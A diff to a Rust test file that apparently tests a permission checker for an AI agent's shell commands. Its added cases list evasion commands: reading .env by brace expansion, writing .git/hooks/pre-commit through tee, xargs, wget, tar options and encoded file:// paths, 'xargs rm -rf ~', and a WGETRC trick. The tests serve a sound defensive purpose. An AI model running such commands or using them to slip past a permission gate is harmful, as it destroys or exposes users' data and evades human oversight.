@@ -3655,6 +3655,22 @@ async fn downloads_archives_and_patches_past_their_odd_spellings() {
         allowed("ask", "curl -T README.md 'file://$P/{.git,x}/hooks/'"),
         bypass("ask", "ls | xargs -I X cp X .git/hooks/"),
         bypass("ask", "ls | xargs --replace=R cp R .git/hooks/"),
+        // Fourth pass: a brace word tree-sitter splits (`{\x,.env}`), plain `xargs CMD`'s
+        // own words, directories a tar option names, escaped `file:` paths, `wget -x`,
+        // `set -a`.
+        case("deny", "Bash", "cat {\\x,.env}").deny(&["Read(.env)"]),
+        bypass("ask", "tee {\\x,.git/hooks/pre-commit}"),
+        bypass("ask", "true | xargs rm -rf ~"),
+        bypass("ask", "echo x | xargs tee .git/hooks/pre-commit"),
+        bypass("ask", "echo u | xargs wget -P .git/hooks"),
+        bypass("ask", "tar -xf a.tar --one-top-level=.git/hooks"),
+        bypass("ask", "tar -xf a.tar --transform 's,^,.git/hooks/,'"),
+        bypass(
+            "ask",
+            "curl -T README.md 'file://$P/%2Egit/hooks/pre%2Dcommit'",
+        ),
+        bypass("ask", "wget -x -nH https://e.com/.git/hooks/pre-commit"),
+        bypass("ask", "set -a; WGETRC=cfg; wget https://e.com/x").deny(&["Read(.env)"]),
         // Programs and settings tar, curl and wget take from elsewhere.
         allowed(
             "ask",
